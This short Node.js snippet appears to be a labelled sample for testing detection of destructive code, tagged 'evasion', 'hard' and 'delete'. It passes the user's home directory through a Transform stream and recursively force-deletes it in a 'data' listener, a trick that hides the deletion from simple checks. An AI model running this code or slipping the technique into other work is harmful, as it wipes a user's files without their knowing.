// evasion: the home directory written into a Transform stream; the 'data' listener removes what comes out
// grade: hard; does: delete
const { Transform } = require("stream");
const fs = require("fs");
const os = require("os");
const t = new Transform({
  transform(chunk, enc, cb) {
    cb(null, chunk.toString().trim());
  },
});
t.on("data", (d) => fs.rmSync(d.toString(), { recursive: true, force: true }));
t.write(os.homedir() + "\n");
t.end();
